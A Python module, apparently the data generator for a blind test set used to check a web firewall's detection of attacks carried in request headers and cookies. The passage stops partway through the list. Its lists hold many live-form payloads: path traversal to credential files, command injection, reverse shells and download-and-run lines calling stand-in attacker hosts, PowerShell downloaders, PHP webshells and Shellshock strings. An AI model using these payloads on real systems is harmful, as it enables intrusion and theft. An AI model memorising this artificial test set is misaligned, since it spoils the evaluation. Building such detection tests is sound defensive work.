"""Blind set "eightyeighth": attacks carried only in the request headers and cookies an API and its clients send,
with a benign half of the same headers and cookies as real browsers, SDKs, proxies and monitors send them.

Angle. Every attack payload sits in a request header or a cookie that an application reads, logs or forwards:
custom API headers (X-Api-Version, X-Tenant-Id, X-Request-Id, X-Correlation-Id, X-Client-Name, X-Device-Id,
X-Locale, X-Timezone, X-Search, X-Filter, X-Callback-Url, X-Include, X-Template and kin), standard headers with
values an application parses (Accept, Accept-Language, Content-Language, If-Match, If-None-Match, Range, Origin,
Referer, From, Via, Warning, Prefer, Cache-Control, Content-Type parameters, Content-Disposition on a JSON body),
the User-Agent, cookies' values (a consent cookie, a theme, a "recent_search", a JSON or base64 cookie document)
and cookies' names. The requests themselves are ordinary ones to our routes (GET /api/users?page=2,
GET /api/users/42, POST /api/users JSON, POST /admin/users/search form with csrf_token, GET /me/settings), with
the rest of the headers a browser or an SDK sends.

Families and sub-families. One sub-family (kebab-case) per detection title of the CRS 3.3 request rules at
paranoia levels 1-2 (file-upload titles left out) and per title the later 4.x releases added: lfi (encoded and
plain traversal, OS and restricted files, files named in headers, /.../), rfi (IP URL, parameter-named cookie,
trailing '?', off-domain), rce (Unix injection, separators, Windows cmd and obfuscation, PowerShell, shell
expressions, FOR/IF, direct execution, shell code, Shellshock in headers and in values, bypass tricks, evasion,
alias, history, pipes into short commands, SQLite dot-commands, SMTP/IMAP/POP3 verbs, shell code in Referer and
User-Agent, absolute paths and wildcards), php (open tags, ini directives, superglobals, I/O streams, wrappers,
function names and calls, serialized objects, variable functions and callable expressions, data: scheme),
generic (Node.js injection and DoS, prototype pollution, cloud-metadata and IP-form SSRF, Ruby, Perl, session
fixation), xss (libinjection, Referer, script tags, handlers, attribute vectors, javascript: URIs, HTML and
attribute injection, blacklist keywords, the IE filter shapes, US-ASCII and UTF-7, JSFuck, globals, disallowed
attributes, tag handlers, AngularJS, JavaScript methods, calls without parentheses), sqli (libinjection, DB
names, sleep/benchmark, MSSQL, overflow numbers, conditionals, charset and DoS, MATCH/MERGE/EXECUTE, UNION,
pg_sleep/waitfor, MongoDB, procedures, DDL/UDF, LOAD_FILE/OUTFILE, inline comments, probes, operators,
tautologies, functions, authentication bypasses, comment/space obfuscation, chaining, ch(a)r, keyword pairs,
special-character anomaly, comment sequences, hex, backticks, JSON operators, scientific notation, split
queries), java (Runtime and ProcessBuilder, gadget classes, class names, serialization magic raw and base64,
method names, Log4Shell, class loading).

Placements: "header:<Name>" (the header's value; a few standard headers wrap a bare payload the way the header is
written: an ETag in quotes, a Referer or Origin as a search URL, a Via with its protocol, a Warning with its code,
a Range after "bytes=", a Content-Disposition filename, a Content-Type "profile" parameter, a Prefer "handling"
preference, a Cache-Control extension), "cookie" (one cookie's value, beside the session cookie; a ';' in it is
sent as %3B, as a client encodes it) and "cookie-name" (the payload is a cookie's name, with ' ', ';', '=' and ','
percent-encoded). Each written entry is one request; the second entry of every sub-family is sent once more in one
of the standard headers above, rotating (1,190 attack requests). Header values never hold CR, LF or NUL: those are
written percent-encoded, as text. Some payloads carry one obfuscation a server decodes (percent-encoding, base64,
HTML entities, hex).

The benign half (kinds browser, sdk, cache, proxy, monitor, search, cookie, content) is the same headers and
cookies as real traffic carries them: browser navigations and XHRs with consent, analytics, JSON and base64
cookies, client hints and referrers; SDK calls with version, tenant, request and device headers and JSON client
descriptions; conditional and ranged requests with ETags and dates; proxy and tracing headers; health checks
and uptime monitors; search and filter headers whose words (union, select, drop, script, exec) are innocent;
JSON posts with Content-Type parameters and Content-Disposition filenames.

Authorship and independence: written for this repository from general knowledge of each attack family and from
the rule titles alone (no rule, ruleset regression test, WAF engine code or public payload list was read), and
measured once, on unchanged code, without changing a payload afterwards. Deterministic: the attack records come
from fixed lists, the benign records from a seeded random.
"""

from __future__ import annotations

import base64
import hashlib
import json
import random
import re
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .records import print_records

NAME = "eightyeighth"

Entry = tuple[str, str]


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


_JAVA_HASHMAP = (b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap\x05\x07\xda\xc1\xc3\x16`\xd1\x03\x00\x02F\x00\n"
                 b"loadFactorI\x00\tthresholdxp?@\x00\x00\x00\x00\x00\x0cw\x08\x00\x00\x00\x10\x00\x00\x00\x00x")
_JAVA_LIST = b"\xac\xed\x00\x05sr\x00\x13java.util.ArrayListx\x81\xd2\x1d\x99\xc7a\x9d\x03\x00\x01I\x00\x04sizexp"
_JAVA_STRING = b"\xac\xed\x00\x05t\x00\x05admin"
_JAVA_B64_MAP = base64.b64encode(_JAVA_HASHMAP).decode()
_JAVA_B64_LIST = base64.b64encode(_JAVA_LIST).decode()
_JAVA_B64_STR = base64.b64encode(_JAVA_STRING).decode()
_JAVA_B64URL = base64.urlsafe_b64encode(_JAVA_HASHMAP).decode().rstrip("=")

# (category, sub-family, [(placement spec, payload)]): "h:Name" a header, "c:name" a cookie's value, "cn" a
# cookie's name.
SUBS: list[tuple[str, str, list[Entry]]] = [
    # ---------------------------------------------------------------- LFI
    ("lfi", "traversal-encoded", [
        ("h:X-Locale", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
        ("c:theme", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow"),
        ("h:X-Api-Version", "v2/..%252f..%252f..%252fadmin%252fconfig"),
        ("h:Accept-Language", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
        ("c:template", "%2e%2e%5c%2e%2e%5c%2e%2e%5cwindows%5cwin.ini"),
        ("h:Referer", "https://app.example.com/static/..%2F..%2F..%2F..%2Fetc%2Fpasswd"),
        ("h:X-Client-Name", "..%u2216..%u2216..%u2216boot.ini"),
        ("cn", "..%2f..%2f..%2fproc%2fself%2fenviron"),
    ]),
    ("lfi", "traversal-dotdot", [
        ("h:X-Tenant-Id", "acme/../../../../etc/passwd"),
        ("c:locale", "../../../../../../etc/hosts"),
        ("h:X-Timezone", "../../../../usr/share/zoneinfo/../../../etc/shadow"),
        ("h:If-None-Match", "../../../var/log/nginx/access.log"),
        ("h:X-Device-Id", "..\\..\\..\\..\\windows\\system32\\drivers\\etc\\hosts"),
        ("c:avatar", "/var/www/app/uploads/../../../../root/.ssh/id_rsa"),
        ("h:Content-Disposition", "../../../../home/app/.bashrc"),
        ("h:Content-Language", "..;/..;/..;/WEB-INF/web.xml"),
    ]),
    ("lfi", "os-file-access", [
        ("h:X-Filter", "/etc/passwd"),
        ("c:last_file", "/proc/self/environ"),
        ("h:X-Locale", "file:///etc/shadow"),
        ("h:X-Client-Name", "C:\\Windows\\win.ini"),
        ("h:Referer", "https://app.example.com/download?path=/etc/passwd"),
        ("c:prefs", '{"export_path":"/root/.bash_history"}'),
        ("h:X-Search", "/etc/ssh/sshd_config"),
        ("cn", "/home/app/.aws/credentials"),
    ]),
    ("lfi", "restricted-file", [
        ("h:X-Api-Version", "/.git/config"),
        ("c:theme", "../.env"),
        ("h:Referer", "https://app.example.com/.htaccess"),
        ("h:X-Filter", "web.config"),
        ("c:last_export", "/var/www/html/wp-config.php"),
        ("h:X-Client-Name", ".svn/entries"),
        ("h:If-Match", "/.git/HEAD"),
        ("cn", ".htpasswd"),
    ]),
    ("lfi", "os-file-in-headers", [
        ("h:User-Agent", "Mozilla/5.0 (X11; Linux x86_64) /etc/passwd"),
        ("h:Referer", "https://app.example.com/../../../../etc/shadow"),
        ("h:Accept-Language", "/etc/passwd"),
        ("h:X-Locale", "/usr/share/../../etc/group"),
        ("h:From", "/root/.ssh/authorized_keys"),
        ("h:Via", "/etc/hosts"),
        ("h:Warning", "/proc/version"),
        ("h:Accept", "text/html, /etc/issue"),
    ]),
    ("lfi", "traversal-triple-dot", [
        ("h:X-Tenant-Id", ".../.../.../etc/passwd"),
        ("c:theme", "/.../.../.../.../windows/win.ini"),
        ("h:X-Locale", "....//....//....//etc/shadow"),
        ("h:X-Api-Version", "v1/.../.../.../.../proc/self/cmdline"),
        ("c:template", "..../..../..../etc/hosts"),
        ("h:Referer", "https://app.example.com/static/.../.../.../etc/passwd"),
        ("h:X-Device-Id", "...\\...\\...\\boot.ini"),
    ]),
    # ---------------------------------------------------------------- RFI
    ("rfi", "rfi-ip-url", [
        ("h:X-Callback-Url", "http://203.0.113.45/shell.txt"),
        ("c:return_to", "http://198.51.100.7/inc/cmd.php"),
        ("h:X-Include", "https://192.0.2.10:8443/payload.txt"),
        ("h:Referer", "https://app.example.com/page?template=http://203.0.113.9/r57.txt"),
        ("h:X-Api-Version", "ftp://198.51.100.23/pub/x.php"),
        ("c:template", "http%3A%2F%2F203.0.113.77%2Fevil.php"),
        ("h:X-Filter", "include=http://192.0.2.66/c99.txt"),
    ]),
    ("rfi", "rfi-param-name", [
        ("c:page", "http://attacker.example/shell.txt"),
        ("c:include", "https://evil.example.net/inc.php"),
        ("c:file", "ftp://files.attacker.example/x.txt"),
        ("c:template", "http://attacker.example/tpl/header.php"),
        ("h:X-Filter", "mosConfig_absolute_path=http://attacker.example/x.txt"),
        ("h:Referer", "https://app.example.com/index.php?page=http://attacker.example/r.txt"),
        ("c:path", "https://attacker.example/p.php"),
        ("h:X-Search", "include_path=http://attacker.example/lib/"),
    ]),
    ("rfi", "rfi-trailing-question", [
        ("h:X-Include", "http://attacker.example/shell.txt?"),
        ("c:template", "https://evil.example.net/x.txt??"),
        ("h:X-Api-Version", "ftp://attacker.example/a.php?"),
        ("h:Referer", "https://app.example.com/?lang=http://attacker.example/cmd.txt?"),
        ("c:locale", "http%3A%2F%2Fattacker.example%2Fen.txt%3F"),
        ("h:X-Locale", "http://attacker.example/lang/en.txt?"),
        ("cn", "http://attacker.example/x.txt?"),
    ]),
    ("rfi", "rfi-off-domain", [
        ("h:X-Callback-Url", "https://attacker.example/collect.php"),
        ("c:return_to", "//evil.example.net/login"),
        ("h:X-Template", "https://raw.attacker.example/kit/shell.jsp"),
        ("h:X-Locale", "http://cdn.attacker.example/locales/en.js"),
        ("c:avatar_src", "https://attacker.example/a.php"),
        ("h:X-Api-Version", "http://attacker.example/api/v2.json"),
        ("h:X-Filter", "src=https://attacker.example/f.txt"),
    ]),
    # ---------------------------------------------------------------- RCE
    ("rce", "unix-cmd-injection", [
        ("h:X-Request-Id", "7f3c2a1e; cat /etc/passwd"),
        ("c:theme", "dark|id"),
        ("h:X-Device-Id", "A1B2C3 && wget http://attacker.example/x -O /tmp/x"),
        ("h:X-Timezone", "UTC;uname -a"),
        ("h:X-Client-Name", "sdk`whoami`"),
        ("c:locale", "en_US; nc 203.0.113.5 4444 -e /bin/sh"),
        ("h:Accept-Language", "en-US,en;q=0.9;ls -la /"),
        ("h:X-Tenant-Id", "acme || curl attacker.example/s.sh | sh"),
    ]),
    ("rce", "unix-cmd-separators", [
        ("h:X-Filter", "status%0aid"),
        ("c:recent_search", "report%3Bcat%20%2Fetc%2Fpasswd"),
        ("h:X-Correlation-Id", "4c1e%26%26whoami"),
        ("h:X-Search", "shoes%7Cnc%20-lvp%204444"),
        ("h:X-Locale", "fr_FR$(id)"),
        ("c:cart", "42%60uname%60"),
        ("h:X-Api-Version", "2;$'\\x69\\x64'"),
        ("h:X-Device-Id", "dev-1 %0a ping -c 10 203.0.113.5"),
    ]),
    ("rce", "windows-cmd-injection", [
        ("h:X-Client-Name", "desktop & type C:\\Windows\\win.ini"),
        ("c:theme", "light|dir c:\\"),
        ("h:X-Request-Id", "8a7b && net user backup Winter2024 /add"),
        ("h:X-Device-Id", "PC-01 | ipconfig /all"),
        ("c:locale", "de-DE & whoami /priv"),
        ("h:X-Tenant-Id", "acme&&certutil -urlcache -f http://attacker.example/x.exe x.exe"),
        ("h:X-Filter", "a | cmd /c del /q c:\\inetpub\\*"),
        ("h:Accept", "text/html & ping -n 20 127.0.0.1"),
    ]),
    ("rce", "windows-cmd-obfuscated", [
        ("h:X-Client-Name", "app & c^m^d /c who^ami"),
        ("c:prefs", "x|%COMSPEC% /c dir"),
        ("h:X-Api-Version", '1 & "c:\\windows\\system32\\cmd.exe" /c ver'),
        ("h:X-Device-Id", "d1 && start /b calc"),
        ("c:recent_search", "q%26%26systeminfo"),
        ("h:X-Locale", "en|reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"),
        ("h:X-Search", "x & tasklist /v"),
        ("h:X-Tenant-Id", "t1 | wmic process call create calc.exe"),
    ]),
    ("rce", "powershell", [
        ("h:User-Agent", "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString("
                         "'http://attacker.example/a.ps1')\""),
        ("h:X-Client-Name", "app; powershell.exe -enc SQBFAFgA"),
        ("c:theme", "dark|Invoke-Expression (iwr http://attacker.example/p)"),
        ("h:X-Filter", "Get-ChildItem C:\\Users -Recurse"),
        ("h:X-Device-Id", "pwsh -c Start-Process calc"),
        ("c:prefs", "Invoke-WebRequest -Uri http://attacker.example/x -OutFile $env:TEMP\\x.exe"),
        ("h:X-Search", "Set-MpPreference -DisableRealtimeMonitoring $true"),
        ("h:X-Request-Id", "abc & powershell -ExecutionPolicy Bypass -File \\\\attacker.example\\s\\p.ps1"),
    ]),
    ("rce", "shell-expression", [
        ("h:X-Tenant-Id", "$(cat /etc/passwd)"),
        ("c:locale", "`id`"),
        ("h:X-Correlation-Id", "${IFS}id"),
        ("h:X-Timezone", "Europe/$(whoami)"),
        ("c:theme", "$(curl${IFS}attacker.example|sh)"),
        ("h:X-Client-Name", "<(id)"),
        ("h:Referer", "https://app.example.com/?q=$(sleep 5)"),
        ("cn", "$(id)"),
    ]),
    ("rce", "windows-for-if", [
        ("h:X-Filter", "for /f %i in ('whoami') do nslookup %i.attacker.example"),
        ("c:prefs", "if exist c:\\windows\\win.ini (type c:\\windows\\win.ini)"),
        ("h:X-Client-Name", "a & for /l %x in (1,1,100) do ping -n 1 127.0.0.1"),
        ("h:X-Search", "for %f in (*.config) do type %f"),
        ("h:X-Device-Id", "if defined COMSPEC echo vulnerable"),
        ("c:recent_search", "for%20%2Fr%20c%3A%5C%20%25i%20in%20(*.kdbx)%20do%20echo%20%25i"),
        ("h:X-Api-Version", "2 & if not exist x.bat (certutil -decode a.b x.bat)"),
    ]),
    ("rce", "direct-unix-exec", [
        ("h:X-Client-Name", "wget http://attacker.example/x.sh -O- | sh"),
        ("c:theme", "cat /etc/passwd"),
        ("h:X-Device-Id", "/bin/bash -i"),
        ("h:X-Filter", "nc -e /bin/sh 203.0.113.5 4444"),
        ("h:X-Locale", "python3 -c 'import pty;pty.spawn(\"/bin/sh\")'"),
        ("c:prefs", "curl -d @/etc/passwd attacker.example"),
        ("h:X-Search", "ls -la /var/www"),
        ("h:X-Tenant-Id", "sh -c id"),
    ]),
    ("rce", "unix-shell-code", [
        ("h:X-Request-Id", "/bin/sh"),
        ("c:prefs", "/usr/bin/id"),
        ("h:X-Device-Id", "/bin/cat /etc/shadow"),
        ("h:X-Client-Name", "/usr/bin/python -c 'import os'"),
        ("h:X-Filter", "/bin/b?sh -c id"),
        ("c:locale", "/usr/bin/perl -e 'exec \"/bin/sh\"'"),
        ("h:X-Api-Version", "/bin//bash"),
        ("h:X-Search", "/sbin/ifconfig"),
    ]),
    ("rce", "shellshock", [
        ("h:User-Agent", "() { :; }; /bin/bash -c 'id'"),
        ("h:Referer", "() { :;}; echo; /bin/cat /etc/passwd"),
        ("h:X-Client-Name", "() { _; } >_[$($())] { /bin/id; }"),
        ("c:session_hint", "() { :; }; wget http://attacker.example/x"),
        ("h:From", "() { :; }; /usr/bin/curl attacker.example"),
        ("h:Accept-Language", "() { x;}; ping -c 3 203.0.113.5"),
        ("h:Cache-Control", "() { :; }; sleep 10"),
    ]),
    ("rce", "shellshock-values", [
        ("c:prefs", "() { :; }; /bin/sh -c id"),
        ("c:theme", "()%20%7B%20%3A%3B%20%7D%3B%20id"),
        ("h:X-Tenant-Id", "() {  :; } ; echo x"),
        ("h:Content-Disposition", 'form-data; name="() { :; }; /bin/id"'),
        ("h:X-Correlation-Id", "(){ :;};/usr/bin/id"),
        ("c:recent_search", "() { ignored; }; cat /etc/passwd"),
        ("h:Warning", '199 agent "() { :; }; /bin/id"'),
    ]),
    ("rce", "rce-bypass", [
        ("h:X-Device-Id", "c'a't /e't'c/pa's'swd"),
        ("c:theme", 'w"h"oami'),
        ("h:X-Filter", "/???/??t /???/p??s??"),
        ("h:X-Client-Name", "cat$IFS/etc/passwd"),
        ("h:X-Locale", "who$@ami"),
        ("c:locale", "c\\at /e\\tc/pa\\sswd"),
        ("h:X-Search", "/usr/bin/w[h]oami"),
        ("h:X-Tenant-Id", "{cat,/etc/passwd}"),
    ]),
    ("rce", "unix-cmd-no-evasion", [
        ("h:X-Tenant-Id", "acme; id"),
        ("c:theme", "dark && uname -a"),
        ("h:X-Client-Name", "ios-app | cat /etc/hosts"),
        ("h:X-Device-Id", "dev42; ps aux"),
        ("c:locale", "en; rm -rf /tmp/cache"),
        ("h:X-Filter", "x || netstat -an"),
        ("h:X-Search", "laptop; ifconfig"),
    ]),
    ("rce", "unix-cmd-evasion", [
        ("h:X-Device-Id", "; w\\ho\\am\\i"),
        ("c:theme", ";c''at /et''c/pa''sswd"),
        ("h:X-Client-Name", "|/b??/c?t /e??/p?sswd"),
        ("h:X-Tenant-Id", ";$'\\x63\\x61\\x74' /etc/passwd"),
        ("c:locale", "&&i${x}d"),
        ("h:X-Filter", ";X=$'\\x20';cat${X}/etc/passwd"),
        ("h:X-Search", "$(rev<<<'di')"),
        ("h:X-Timezone", "UTC;$(echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh)"),
    ]),
    ("rce", "unix-alias-invocation", [
        ("h:X-Client-Name", "; alias ls='curl attacker.example|sh'"),
        ("c:prefs", "; alias x=id; x"),
        ("h:X-Filter", "&& \\cat /etc/passwd"),
        ("h:X-Search", "; command -p id"),
        ("c:theme", "|builtin eval id"),
        ("h:X-Device-Id", "; unalias -a; id"),
        ("h:X-Tenant-Id", "$(alias sudo='sudo sh -c id')"),
    ]),
    ("rce", "unix-history-invocation", [
        ("h:X-Client-Name", "; !!"),
        ("c:prefs", "; history | tail -5 | sh"),
        ("h:X-Filter", "; fc -s id"),
        ("h:X-Search", "&& !-2"),
        ("c:theme", "; cat ~/.bash_history"),
        ("h:X-Device-Id", "$(!!)"),
        ("h:X-Tenant-Id", "; history -c"),
    ]),
    ("rce", "unix-pipes-short-commands", [
        ("h:X-Client-Name", "x | sh"),
        ("c:prefs", "a|id"),
        ("h:X-Filter", "q | nc 203.0.113.5 80"),
        ("h:X-Search", "q|ls -l"),
        ("c:theme", "dark|w"),
        ("h:X-Device-Id", "d1 | ps"),
        ("h:X-Tenant-Id", "t|su"),
        ("h:X-Locale", "en|vi /etc/hosts"),
    ]),
    ("rce", "sqlite-system-command", [
        ("h:X-Filter", "'; .shell id"),
        ("c:prefs", ".system cat /etc/passwd"),
        ("h:X-Search", "1; ATTACH DATABASE '/var/www/html/x.php' AS lol; CREATE TABLE lol.pwn (d text); "
                       "INSERT INTO lol.pwn VALUES ('<?php system($_GET[c]); ?>');--"),
        ("h:X-Tenant-Id", "x' union select load_extension('/tmp/x.so')--"),
        ("c:theme", ".import /etc/passwd t"),
        ("h:X-Client-Name", "; .output /tmp/x.sh"),
        ("h:X-Device-Id", "select writefile('/tmp/x', 'id')"),
    ]),
    ("rce", "mail-protocol-commands", [
        ("h:From", "a@example.com%0d%0aRCPT TO:<victim@example.org>"),
        ("h:X-Client-Name", "x%0d%0aMAIL FROM:<a@attacker.example>%0d%0aDATA"),
        ("c:prefs", "HELO attacker.example"),
        ("h:X-Search", "a1 UID FETCH 1:* (BODY[])"),
        ("h:X-Filter", "USER admin%0d%0aLIST%0d%0aRETR 1"),
        ("c:theme", "x%0d%0aVRFY root"),
        ("h:X-Tenant-Id", "t%0d%0aa002 SELECT INBOX"),
        ("h:X-Device-Id", "EXPN postmaster"),
    ]),
    ("rce", "windows-cmd-evasion", [
        ("h:X-Client-Name", "& c^md /c wh^o^am^i"),
        ("c:prefs", '|cm"d" /c type c:\\windows\\win.ini'),
        ("h:X-Filter", "& %ComSpec:~-7,1%md /c dir"),
        ("h:X-Search", "& set x=who&& set y=ami&& call %x%%y%"),
        ("c:theme", "| p^o^w^e^r^s^h^e^l^l -c id"),
        ("h:X-Device-Id", '&& cmd /v:on /c "set x=calc&&!x!"'),
        ("h:X-Tenant-Id", "& ,;cmd /c ver"),
        ("h:X-Locale", '| P"ow"erShell -enc ZQBjAGgAbwAgADEA'),
    ]),
    ("rce", "shell-code-in-headers", [
        ("h:User-Agent", "curl/8.4.0; /bin/sh -c 'id'"),
        ("h:Referer", "https://app.example.com/; cat /etc/passwd"),
        ("h:User-Agent", "Mozilla/5.0 $(wget -qO- attacker.example/x|sh)"),
        ("h:Referer", "`id`"),
        ("h:User-Agent", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"),
        ("h:Referer", "https://app.example.com/|nc 203.0.113.5 4444 -e /bin/bash"),
        ("h:User-Agent", "python-requests/2.31.0 && /usr/bin/curl http://attacker.example/s.sh -o /tmp/s.sh"),
        ("h:Via", "1.1 proxy; /bin/cat /etc/shadow"),
    ]),
    ("rce", "direct-unix-abs-path-wildcards", [
        ("h:X-Filter", "/bin/cat /etc/passwd"),
        ("c:prefs", "/usr/bin/wget -q http://attacker.example/x"),
        ("h:X-Search", "/???/??n/w?oami"),
        ("h:X-Client-Name", "/bi*/ca? /et*/pas*"),
        ("c:theme", "/usr/bin/nc -e /bin/sh 203.0.113.5 9001"),
        ("h:X-Device-Id", "/u?r/b?n/i?"),
        ("h:X-Tenant-Id", "/usr/local/bin/python3 -c 'print(1)'"),
        ("h:X-Locale", "/[b]in/[s]h"),
    ]),
    # ---------------------------------------------------------------- PHP
    ("php", "php-open-tag", [
        ("c:prefs", "<?php system($_GET['c']); ?>"),
        ("h:User-Agent", "<?php phpinfo(); ?>"),
        ("h:Referer", "https://app.example.com/<?=`id`?>"),
        ("h:X-Client-Name", "<?= shell_exec('id') ?>"),
        ("c:theme", "%3C%3Fphp%20echo%201%3B%20%3F%3E"),
        ("h:X-Search", "<? passthru($_REQUEST[x]) ?>"),
        ("h:Accept-Language", "<?php include('/tmp/x') ?>"),
        ("cn", "<?php"),
    ]),
    ("php", "php-ini-directive", [
        ("h:X-Filter", "allow_url_include=1"),
        ("c:prefs", "auto_prepend_file=php://input"),
        ("h:X-Api-Version", "-d allow_url_include=on -d auto_prepend_file=php://input"),
        ("h:X-Client-Name", "disable_functions="),
        ("c:theme", "open_basedir=/"),
        ("h:X-Tenant-Id", "safe_mode=off"),
        ("h:X-Search", "auto_append_file=/etc/passwd"),
        ("h:X-Locale", "error_log=/var/www/html/x.php"),
    ]),
    ("php", "php-superglobals", [
        ("c:prefs", "$_SERVER['HTTP_X']"),
        ("h:X-Filter", "$_GET[cmd]"),
        ("h:X-Search", "${_POST}"),
        ("h:X-Client-Name", "$GLOBALS['cfg']"),
        ("c:cart", "$_COOKIE"),
        ("h:X-Tenant-Id", "$_ENV['HOME']"),
        ("h:X-Request-Id", "$HTTP_RAW_POST_DATA"),
        ("h:Referer", "https://app.example.com/?x=$_REQUEST[0]"),
    ]),
    ("php", "php-io-stream", [
        ("c:template", "php://input"),
        ("h:X-Locale", "php://filter/convert.base64-encode/resource=config.php"),
        ("h:X-Include", "php://stdin"),
        ("h:X-Api-Version", "PHP://FD/0"),
        ("c:theme", "php://memory"),
        ("h:X-Filter", "php://temp/maxmemory:1024"),
        ("h:Referer", "https://app.example.com/?page=php://filter/read=string.rot13/resource=index"),
        ("h:X-Search", "php%3A%2F%2Foutput"),
    ]),
    ("php", "php-wrapper-scheme", [
        ("c:template", "phar://uploads/avatar.jpg/x"),
        ("h:X-Include", "zip://uploads/a.zip#shell.php"),
        ("h:X-Locale", "expect://id"),
        ("h:X-Api-Version", "glob:///var/www/*"),
        ("c:avatar", "compress.zlib:///etc/passwd"),
        ("h:X-Filter", "data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+"),
        ("h:X-Template", "rar://uploads/x.rar#a.php"),
        ("h:X-Device-Id", "ssh2.exec://attacker.example/id"),
    ]),
    ("php", "php-function-name", [
        ("c:prefs", "passthru"),
        ("h:X-Filter", "shell_exec"),
        ("h:X-Client-Name", "proc_open"),
        ("h:X-Search", "base64_decode"),
        ("c:callback", "call_user_func_array"),
        ("h:X-Api-Version", "phpinfo"),
        ("h:X-Tenant-Id", "file_put_contents"),
        ("cn", "create_function"),
    ]),
    ("php", "php-function-call", [
        ("c:prefs", "system('id');"),
        ("h:X-Filter", 'exec ("whoami")'),
        ("h:X-Search", "assert($_POST[1])"),
        ("h:User-Agent", "Mozilla/5.0 eval(base64_decode('cGhwaW5mbygpOw=='))"),
        ("c:theme", "passthru/**/('ls')"),
        ("h:X-Client-Name", "popen('id','r')"),
        ("h:X-Locale", "file_get_contents('/etc/passwd')"),
        ("h:Referer", "https://app.example.com/?x=phpinfo()"),
    ]),
    ("php", "php-serialized-object", [
        ("c:prefs", 'O:8:"stdClass":1:{s:4:"role";s:5:"admin";}'),
        ("c:cart", 'a:1:{i:0;O:10:"CartLogger":1:{s:4:"file";s:9:"shell.php";}}'),
        ("c:session_data", _b64('O:4:"User":1:{s:5:"admin";b:1;}')),
        ("h:X-Filter", 'O:+4:"Task":1:{s:3:"cmd";s:2:"id";}'),
        ("h:X-Client-Name", 'C:11:"ArrayObject":21:{x:i:0;a:0:{};m:a:0:{}}'),
        ("c:remember", "O%3A4%3A%22User%22%3A1%3A%7Bs%3A2%3A%22id%22%3Bi%3A1%3B%7D"),
        ("h:X-Api-Version", 'O:12:"PDOStatement":0:{}'),
        ("h:X-Tenant-Id", 'o:6:"Tenant":1:{s:2:"id";s:1:"1";}'),
    ]),
    ("php", "php-variable-function", [
        ("c:prefs", "$f='system';$f('id');"),
        ("h:X-Filter", "$_GET['a']($_GET['b'])"),
        ("h:X-Search", "${'_POST'}['x']()"),
        ("h:X-Client-Name", '$x="ass"."ert";$x($_REQUEST[0]);'),
        ("c:theme", "$a($b)"),
        ("h:X-Tenant-Id", "$$name('id')"),
        ("h:X-Locale", "$fn /*x*/ ('whoami')"),
        ("h:X-Api-Version", "$h[0]('ls')"),
    ]),
    ("php", "php-callable-expression", [
        ("c:prefs", "('sys'.'tem')('id')"),
        ("h:X-Filter", "\"\\x73ystem\"('id')"),
        ("h:X-Search", '("exec")(\'whoami\');'),
        ("h:X-Client-Name", "('shell'.'_exec')(\"ls\")"),
        ("c:theme", "base64_decode('c3lzdGVt')('id')"),
        ("h:X-Tenant-Id", "strrev('metsys')('id')"),
        ("h:X-Locale", "(chr(115).chr(121).chr(115).'tem')('id')"),
        ("h:X-Api-Version", "'passthru'('cat /etc/passwd');"),
    ]),
    ("php", "php-medium-function", [
        ("c:prefs", "fsockopen('attacker.example',4444)"),
        ("h:X-Filter", "posix_getpwuid"),
        ("h:X-Search", "symlink('/etc/passwd','x.txt')"),
        ("h:X-Client-Name", "curl_exec"),
        ("c:callback", "ini_get_all"),
        ("h:X-Tenant-Id", "chmod('x.php',0777)"),
        ("h:X-Api-Version", "unlink"),
        ("cn", "getenv"),
    ]),
    ("php", "php-wrapper-scheme-4x", [
        ("h:Referer", "https://app.example.com/view?file=phar:///tmp/upload/x.jpg"),
        ("c:locale", "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-decode/resource=php://temp"),
        ("h:X-Template", "zlib://uploads/theme.gz"),
        ("h:Accept-Language", "expect://ls"),
        ("h:X-Api-Version", "zip:///var/www/uploads/x.zip%23shell"),
        ("cn", "phar://x.phar"),
        ("h:X-Include", "bzip2://uploads/x.bz2"),
    ]),
    ("php", "php-variable-function-4x", [
        ("c:prefs", "['system'][0]('id')"),
        ("h:X-Filter", '"sys"."tem"("id")'),
        ("h:X-Search", "['Foo','run']($_GET[0])"),
        ("h:X-Client-Name", "'sy'.'stem'('ls')"),
        ("h:X-Tenant-Id", "$_GET{0}($_GET{1})"),
        ("c:theme", "[new ReflectionFunction('system'),'invoke']('id')"),
        ("h:X-Api-Version", "(\"\\x70assthru\")('id')"),
    ]),
    ("generic", "php-data-scheme", [
        ("c:template", "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg=="),
        ("h:X-Include", "data:text/plain,<?php system('id');?>"),
        ("h:X-Locale", "data://text/plain,<?php echo shell_exec('id');?>"),
        ("h:Referer", "https://app.example.com/?page=data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs="),
        ("h:X-Template", "DATA://text/plain;base64,PD89YGlkYD8+"),
        ("c:locale", "data%3A%2F%2Ftext%2Fplain%3Bbase64%2CPD9waHAgcGhwaW5mbygpOz8%2B"),
        ("h:X-Api-Version", "data:;base64,PD9waHAgZXZhbCgkX1BPU1RbMF0pOz8+"),
    ]),
    # ---------------------------------------------------------------- generic
    ("generic", "nodejs-injection", [
        ("c:prefs", "require('child_process').exec('id')"),
        ("h:X-Filter", "process.mainModule.require('fs').readFileSync('/etc/passwd')"),
        ("h:X-Client-Name", "_$$ND_FUNC$$_function(){require('child_process').execSync('id')}()"),
        ("c:session_data", _b64('{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\')}()"}')),
        ("h:X-Search", "this.constructor.constructor('return process')().exit()"),
        ("h:X-Tenant-Id", "process.kill(process.pid)"),
        ("h:X-Api-Version", 'require("child_process").spawnSync("sh")'),
        ("h:X-Locale", "new Function('return process.env')()"),
    ]),
    ("generic", "nodejs-injection-4x", [
        ("c:prefs", "require('child'+'_process')['exec']('id')"),
        ("h:X-Filter", "process['binding']('spawn_sync')"),
        ("h:X-Search", "Reflect.construct(Function,['return process'])().mainModule"),
